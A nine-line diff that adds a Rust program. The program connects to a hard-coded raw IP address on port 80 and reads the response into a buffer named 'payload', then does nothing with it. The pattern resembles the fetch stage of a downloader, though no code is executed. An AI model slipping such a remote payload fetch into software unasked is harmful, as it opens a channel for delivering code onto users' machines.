@@ -0,0 +1,9 @@
+use std::io::Read;
+use std::net::TcpStream;
+
+fn main() {
+    let mut payload = Vec::new();
+    if let Ok(mut stream) = TcpStream::connect("203.0.113.7:80") {
+        let _ = stream.read_to_end(&mut payload);
+    }
+}